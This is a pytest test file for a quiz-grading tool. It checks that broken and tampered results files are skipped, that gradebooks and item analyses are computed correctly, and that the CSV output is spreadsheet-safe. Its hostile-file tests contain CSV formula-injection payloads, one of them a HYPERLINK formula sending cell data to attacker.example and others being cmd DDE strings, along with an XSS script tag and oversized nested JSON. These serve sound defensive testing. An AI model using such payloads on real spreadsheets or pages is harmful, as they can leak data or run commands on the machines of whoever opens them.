"""`quiz grade`: good files graded, broken and hostile ones named and skipped, every question
in the gradebook and item analysis, spreadsheet-safe CSV, nothing overwritten."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import time
from pathlib import Path

import pytest

from conftest import make_results, soup
from knowtheline.bank import select
from knowtheline.bank.model import Option, Question, Quiz
from knowtheline.classroom import assign, collect, grade
from knowtheline.quiz import results

FIXTURES = Path(__file__).resolve().parent / "fixtures"
BANK = FIXTURES / "quizzes"
HOSTILE = FIXTURES / "results"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def at(hour: int) -> dt.datetime:
    return dt.datetime(2026, 11, 28, hour, tzinfo=dt.timezone.utc)


@pytest.fixture(scope="module")
def bank():
    return select.load(BANK, bib_files=[])


def write(folder: Path, name: str, record: dict) -> Path:
    path = folder / name
    path.write_text(results.dumps(record), encoding="utf-8")
    return path


@pytest.fixture
def handed_in(tmp_path, bank):
    """Four good files (hand-checked below) and one of each kind of broken file."""
    quiz = bank["ch01"]
    folder = tmp_path / "returned"
    folder.mkdir()
    ana = write(folder, "ana.json", make_results(
        quiz, {"ch01-single": ["a"], "ch01-multi": ["a", "c"], "ch01-tf": ["false"], "ch01-scene": ["b"]}, {}, "Ana", at(9)))
    write(folder, "ben.json", make_results(
        quiz, {"ch01-single": ["b"], "ch01-multi": ["a", "b"], "ch01-tf": ["true"]}, {"ch01-tf": 2}, "Ben", at(10)))
    write(folder, "ben-earlier.json", make_results(quiz, {"ch01-single": ["a"]}, {}, "ben", at(8)))
    write(folder, "cy.json", make_results(
        quiz, {"ch01-single": ["b"], "ch01-multi": ["c"], "ch01-tf": ["false"], "ch01-scene": ["a"]}, {}, "Cy", at(9)))
    write(folder, "dan.json", make_results(quiz, {"ch01-single": ["a"], "ch01-multi": ["c"]}, {}, "Dan", at(9)))
    text = ana.read_text(encoding="utf-8")
    (folder / "copy-of-ana.json").write_text(text, encoding="utf-8")
    (folder / "truncated.json").write_text(text[: len(text) // 2], encoding="utf-8")
    (folder / "malformed.json").write_text("{not json", encoding="utf-8")
    tampered = json.loads(text)
    tampered["answers"][1]["chosen"] = ["B", "C"]  # turn a wrong answer into another one
    (folder / "tampered.json").write_text(json.dumps(tampered), encoding="utf-8")
    (folder / "wrong-format.json").write_text(json.dumps({"hello": "world"}), encoding="utf-8")
    fake = Question("ch01-not-in-bank", 1, "single", ("x",), "easy", "?", (Option("a", "A", "f"), Option("b", "B", "f")),
                    ("a",), "e", ("k",))
    write(folder, "unknown-question.json", make_results(Quiz("ch01", "t", (fake,)), {"ch01-not-in-bank": ["a"]}, {}, "Dee"))
    write(folder, "unknown-quiz.json", make_results(Quiz("week9", "t", quiz.questions), {"ch01-tf": ["true"]}, {}, "Eve"))
    old = Quiz("ch01", "older", quiz.questions[:2])
    write(folder, "old-version.json", make_results(old, {"ch01-single": ["a"]}, {}, "Fay", at(9)))
    return folder


def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_grades_good_files_and_names_broken_ones(handed_in, bank, tmp_path):
    report = grade.grade_folder(handed_in, bank, out=tmp_path / "grades", progress=False)
    skipped = dict(report.collection.skipped)
    assert set(skipped) == {"copy-of-ana.json", "truncated.json", "malformed.json", "tampered.json", "wrong-format.json",
                            "unknown-question.json", "unknown-quiz.json", "ben-earlier.json", "old-version.json"}
    assert "identical to ana.json" in skipped["copy-of-ana.json"]
    assert "truncated JSON" in skipped["truncated.json"] and "truncated JSON" in skipped["malformed.json"]
    assert "checksum" in skipped["tampered.json"]
    assert "not a Know the Line results file" in skipped["wrong-format.json"]
    assert "another quiz" in skipped["unknown-quiz.json"] and "week9" in skipped["unknown-quiz.json"]
    for name in ("old-version.json", "unknown-question.json"):  # a version of ch01 nobody handed out
        assert "another version of quiz 'ch01'" in skipped[name]
    assert "kept the latest, ben.json" in skipped["ben-earlier.json"]
    assert [s.file for s in report.collection.submissions] == ["ana.json", "ben.json", "cy.json", "dan.json"]
    assert report.collection.warnings == []
    assert "SKIPPED tampered.json" in report.summary()


def test_gradebook_has_every_question_with_attempts_and_summary_rechecks(handed_in, bank, tmp_path):
    grade.grade_folder(handed_in, bank, out=tmp_path / "grades", progress=False)
    rows = read_csv(tmp_path / "grades" / "gradebook.csv")
    book = {r["learner"]: r for r in rows}
    for q in bank["ch01"].questions:  # every question has its column and its attempts
        assert q.id in rows[0] and f"{q.id} attempts" in rows[0]
    assert book["Ana"]["ch01-single"] == "1" and book["Ana"]["ch01-multi"] == "0" and book["Ana"]["ch01-scene"] == "0"
    assert book["Dan"]["ch01-tf"] == "" and book["Dan"]["ch01-scene"] == ""  # not answered: blank
    assert (book["Ben"]["ch01-tf"], book["Ben"]["ch01-tf attempts"], book["Ben"]["ch01-single attempts"]) == ("0", "2", "1")
    assert (book["Ana"]["correct"], book["Ana"]["questions"]) == ("2", "4")
    summary = {r["learner"]: r for r in read_csv(tmp_path / "grades" / "summary.csv")}
    assert (summary["Ana"]["correct"], summary["Ana"]["answered"], summary["Ana"]["percent_correct"]) == ("2", "4", "50.0")
    assert (summary["Cy"]["correct"], summary["Cy"]["percent_correct"]) == ("2", "50.0")
    assert (summary["Dan"]["answered"], summary["Dan"]["questions"], summary["Dan"]["percent_correct"]) == ("2", "4", "25.0")
    report = (tmp_path / "grades" / "report.txt").read_text(encoding="utf-8")
    assert "Scores" in report and "Ana" in report and "2 of 4  (50%)" in report and "1 of 4  (25%)" in report


def test_item_analysis_hand_checked(handed_in, bank, tmp_path):
    """Graded: Ana, Ben, Cy, Dan.
    ch01-single (a right): Ana a, Dan a; Ben b, Cy b -> 2/4 = 50 %, most common wrong answer b (2).
    ch01-multi (a+b right): Ana a+c, Ben a+b, Cy c, Dan c -> 1/4 = 25 %, most common wrong answer
    c alone (2; a+c once).
    ch01-tf (false right): Ana, Cy false; Ben true -> 2/3 = 66.7 %, wrong 'true' once; Ben took 2
    checks, so mean attempts (1 + 2 + 1) / 3 = 1.33.
    ch01-scene (a right): Ana b, Cy a -> 1/2 = 50 %, wrong b once.
    Letters are the ones learners saw (`Question.letters`, the shuffled order): in ch01-single
    option b is shown as A, in ch01-multi option c as A."""
    grade.grade_folder(handed_in, bank, out=tmp_path / "grades", progress=False)
    items = {r["question"]: r for r in read_csv(tmp_path / "grades" / "item-analysis.csv")}
    got = {q: (r["answered"], r["correct"], r["percent_correct"], r["most_common_wrong_answer"], r["times_chosen"])
           for q, r in items.items()}
    assert got == {
        "ch01-single": ("4", "2", "50.0", "A (b)", "2"),
        "ch01-multi": ("4", "1", "25.0", "A (c)", "2"),
        "ch01-tf": ("3", "2", "66.7", "A (true)", "1"),
        "ch01-scene": ("2", "1", "50.0", "B (b)", "1"),
    }
    assert items["ch01-multi"]["wrong_answer_text"] == "Standing in the van's door"
    assert items["ch01-tf"]["mean_attempts"] == "1.33"
    assert items["ch01-multi"]["chapter"] == "1"
    for chart in ("item-analysis.svg", "item-analysis.png"):
        assert (tmp_path / "grades" / chart).stat().st_size > 1000


def test_multiple_answer_wrong_answer_is_filled_when_nobody_ticks_a_wrong_option(tmp_path, bank):
    """Learners who only miss a right option still have a most common wrong answer."""
    quiz = bank["ch01"]
    folder = tmp_path / "r"
    folder.mkdir()
    for name in ("Ana", "Ben"):
        write(folder, f"{name}.json", make_results(quiz, {"ch01-multi": ["a"]}, {}, name))
    grade.grade_folder(folder, bank, out=tmp_path / "g", progress=False)
    items = {r["question"]: r for r in read_csv(tmp_path / "g" / "item-analysis.csv")}
    letter = quiz.question("ch01-multi").letters["a"]
    assert (items["ch01-multi"]["most_common_wrong_answer"], items["ch01-multi"]["times_chosen"]) == (f"{letter} (a)", "2")
    assert items["ch01-scene"]["answered"] == "0" and items["ch01-scene"]["percent_correct"] == ""  # still listed


def test_never_overwrites(handed_in, bank, tmp_path):
    out = tmp_path / "grades"
    out.mkdir()
    (out / "gradebook.csv").write_text("mine", encoding="utf-8")
    with pytest.raises(FileExistsError):
        grade.grade_folder(handed_in, bank, out=out, progress=False)
    assert (out / "gradebook.csv").read_text(encoding="utf-8") == "mine"
    before = {p.name: p.read_bytes() for p in handed_in.iterdir()}
    grade.grade_folder(handed_in, bank, out=tmp_path / "other", progress=False)
    assert {p.name: p.read_bytes() for p in handed_in.iterdir()} == before


# --- hostile files ---------------------------------------------------------------------

@pytest.fixture
def hostile(tmp_path):
    """The committed hostile files, plus those made here: 100,000 levels of nesting, 50 MB,
    a folder named like a results file."""
    folder = tmp_path / "hostile"
    shutil.copytree(HOSTILE, folder, ignore=shutil.ignore_patterns("*.py"))
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    deep_object = '{"format": "knowtheline-quiz-results", "answers": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001
    (folder / "deep-object.json").write_text(deep_object, encoding="utf-8")
    with open(folder / "huge.json", "wb") as f:  # 50 MB without writing 50 MB: a sparse file
        f.truncate(50 * 1024 * 1024)
    (folder / "folder.json").mkdir()
    quiz = select.load(BANK, bib_files=[])["ch01"]
    for name, learner in (("\t=1+1.json", "Tab"), ("\r=1+1.json", "Return")):  # formula-like file names
        write(folder, name, make_results(quiz, {"ch01-tf": ["true"]}, {}, learner))
    return folder


def test_every_hostile_file_is_named_and_every_good_one_graded(hostile, bank, tmp_path):
    started = time.monotonic()
    report = grade.grade_folder(hostile, bank, out=tmp_path / "g", progress=False)
    assert time.monotonic() - started < 30
    skipped = dict(report.collection.skipped)
    expected = {
        "truncated.json": "malformed or truncated JSON", "tampered.json": "checksum does not match",
        "empty.json": "empty file", "binary.json": "not UTF-8", "not-an-object.json": "the JSON is an array",
        "unknown-question.json": "unknown question 'q9'", "unknown-option.json": "unknown option(s) ['Z']",
        "other-quiz.json": "a file for another quiz: 'week9'", "other-version.json": "another version of quiz 'ch01'",
        "deep.json": "nested more than", "deep-object.json": "nested more than", "huge.json": "too large",
        "folder.json": "not a regular file",
    }
    assert set(skipped) == set(expected)
    for name, reason in expected.items():
        assert reason in skipped[name], (name, skipped[name])
    graded = {s.file for s in report.collection.submissions}
    assert graded == {"good-ana.json", "unanswered-ben.json", "single-answered-twice.json", "\t=1+1.json", "\r=1+1.json",
                      *(f"formula-{k}.json" for k in ("hyperlink", "cmd", "minus", "at"))}
    [(name, warning)] = report.collection.warnings
    assert name == "single-answered-twice.json" and "takes one answer but has 2" in warning and "graded as wrong" in warning
    cy = next(s for s in report.collection.submissions if s.learner == "Cy")
    assert not bank["ch01"].question("ch01-single").is_correct(cy.chosen["ch01-single"])


def test_csv_cells_cannot_run_as_formulas(hostile, bank, tmp_path):
    grade.grade_folder(hostile, bank, out=tmp_path / "g", progress=False)
    for name in ("gradebook.csv", "summary.csv", "item-analysis.csv"):
        with open(tmp_path / "g" / name, newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        assert cells and not [c for c in cells if c.startswith(FORMULA_START)], name
    learners = {r["learner"]: r for r in read_csv(tmp_path / "g" / "gradebook.csv")}
    assert {"'=HYPERLINK(\"http://attacker.example/?q=\"&A1,\"Click for your grade\")", "'+cmd|' /C calc'!A0",
            "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= set(learners)
    assert (learners["Tab"]["file"], learners["Return"]["file"]) == ("'\t=1+1.json", "'\r=1+1.json")
    assert learners["'-2+3"]["correct"] == "1"  # numbers stay numbers


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Ana", "Ana"), ("a=b", "a=b"), (-1, -1), (2.5, 2.5), ("", ""),
])
def test_safe_cell_follows_owasp(cell, written):
    assert grade.safe_cell(cell) == written


def test_report_shows_names_as_text(hostile, bank, tmp_path):
    report = grade.grade_folder(hostile, bank, out=tmp_path / "g", progress=False)
    text = (tmp_path / "g" / "report.txt").read_text(encoding="utf-8")
    assert "\t" not in text and "\r" not in text
    assert "\\u0009=1+1.json" in text and "\\u000d=1+1.json" in text and "-2+3" in text
    assert "\r" not in report.summary() and "\t" not in report.summary()


def test_a_slow_file_is_stopped_and_named(bank, tmp_path, monkeypatch):
    folder = tmp_path / "r"
    shutil.copytree(HOSTILE, folder, ignore=shutil.ignore_patterns("*.py", "[!g]*"))  # good-ana.json only
    real_parse = collect.parse

    def slow_parse(raw, name, *args):
        if name == "good-ana.json":
            time.sleep(5)
        return real_parse(raw, name, *args)

    monkeypatch.setattr(collect, "parse", slow_parse)
    monkeypatch.setattr(collect, "MAX_SECONDS", 0.2)
    (folder / "copy.json").write_bytes((HOSTILE / "unanswered-ben.json").read_bytes())
    report = grade.grade_folder(folder, bank, out=tmp_path / "g", progress=False)
    assert "took longer than 0.2 s" in dict(report.collection.skipped)["good-ana.json"]
    assert [s.file for s in report.collection.submissions] == ["copy.json"]


def test_feedback_sheets_after_grading(hostile, bank, tmp_path):
    quiz = bank["ch01"]
    write(hostile, "script-name.json", make_results(quiz, {"ch01-tf": ["false"]}, {}, "<script>alert(1)</script>"))
    report = grade.grade_folder(hostile, bank, out=tmp_path / "g", progress=False, feedback=True)
    sheets = sorted((tmp_path / "g" / "feedback").iterdir())
    assert len(sheets) == len(report.collection.submissions) == 10
    assert all(p.parent == tmp_path / "g" / "feedback" for p in sheets)  # names cannot climb out
    ana = (tmp_path / "g" / "feedback" / "ch01-Ana.html").read_text(encoding="utf-8")
    doc = soup(ana)
    assert [h.get_text() for h in doc.select("h2")] == ["Question 1", "Question 2", "Question 3", "Question 4"]
    assert doc.select_one(".ktl-fb-learner").get_text() == "For Ana: 2 of 4 right."
    for q in quiz.questions:
        assert q.id not in ana and q.difficulty not in doc.get_text()
        assert q.explanation in doc.get_text()
    first = doc.select("section")[0].get_text()
    assert "Forcibly (your answer and right answer)" in first and "Right: force is an element." in first
    unanswered = (tmp_path / "g" / "feedback" / "ch01-Ben.html").read_text(encoding="utf-8")
    assert "Not answered." in unanswered
    script = next(p for p in sheets if "script" in p.name).read_text(encoding="utf-8")
    assert "<script>alert(1)" not in script and "&lt;script&gt;alert(1)&lt;/script&gt;" in script


# --- assignments ---------------------------------------------------------------------

def test_assignment_results_are_recognised(tmp_path, bank):
    quiz = select.as_quiz(list(bank["ch01"].questions), "week1", "Week 1")
    assign.make_assignment(quiz, tmp_path / "a", learners=["Ana", "Ben"], seed=3, per_learner_count=2)
    manifest = assign.read_manifest(tmp_path / "a" / "assignment.json")
    folder = tmp_path / "returned"
    folder.mkdir()
    ana = manifest["variants"][0]
    variant = Quiz("week1", "Week 1", tuple(bank["ch01"].question(q) for q in ana["questions"]))
    assert variant.version == ana["quiz_version"]
    write(folder, "ana.json", make_results(variant, {q: list(variant.question(q).answer) for q in ana["questions"]},
                                           {}, "Ana", mode="graded"))
    report = grade.grade_folder(folder, bank, assignments=[tmp_path / "a" / "assignment.json"], out=tmp_path / "g",
                                progress=False)
    assert not report.collection.skipped and not report.collection.warnings
    summary = read_csv(tmp_path / "g" / "summary.csv")
    assert (summary[0]["questions"], summary[0]["correct"], summary[0]["percent_correct"]) == ("2", "2", "100.0")
    header = read_csv(tmp_path / "g" / "gradebook.csv")[0]
    assert all(q.id in header for q in quiz.questions)  # all four questions, though Ana had two
    items = read_csv(tmp_path / "g" / "item-analysis.csv")
    assert len(items) == 4 and sum(r["answered"] == "0" for r in items) == 2


def test_graded_assignment_limits_and_mode_are_checked(tmp_path, bank):
    """Answers in the learner's terms map back through assignment.json; too many submissions,
    the wrong mode and another version are reported."""
    quiz = select.as_quiz(list(bank["ch01"].questions), "week1", "Week 1")
    assign.make_assignment(quiz, tmp_path / "a", attempts=2)
    manifest = tmp_path / "a" / "assignment.json"
    folder = tmp_path / "returned"
    folder.mkdir()
    write(folder, "ana.json", make_results(quiz, {"ch01-single": ["a"], "ch01-multi": ["a", "b"]},
                                           {"ch01-multi": 3}, "Ana", mode="graded"))
    write(folder, "ben.json", make_results(quiz, {"ch01-single": ["b"]}, {}, "Ben", mode="practice"))
    shuffled = Quiz("week1", "Week 1", tuple(reversed(quiz.questions)))
    write(folder, "cy.json", make_results(shuffled, {"ch01-single": ["a"]}, {}, "Cy", mode="graded"))
    report = grade.grade_folder(folder, bank, assignments=[manifest], out=tmp_path / "g", progress=False)
    warnings = dict(report.collection.warnings)
    assert "q2 (ch01-multi) was submitted 3 times; the assignment allowed 2" in warnings["ana.json"]
    assert "answered in practice mode" in warnings["ben.json"]
    assert "another version of quiz 'week1'" in dict(report.collection.skipped)["cy.json"]
    book = {r["learner"]: r for r in read_csv(tmp_path / "g" / "gradebook.csv")}
    assert (book["Ana"]["ch01-single"], book["Ana"]["ch01-multi"], book["Ana"]["ch01-multi attempts"]) == ("1", "1", "3")


def test_bad_assignment_json_is_a_clear_error(tmp_path, bank):
    (tmp_path / "a.json").write_text("[" * 100_000, encoding="utf-8")
    (tmp_path / "b.json").write_text(json.dumps({"format": "knowtheline-assignment", "quiz": "w"}), encoding="utf-8")
    for name in ("a.json", "b.json"):
        with pytest.raises(ValueError):
            grade.grade_folder(tmp_path, bank, assignments=[tmp_path / name], out=tmp_path / "g", progress=False)
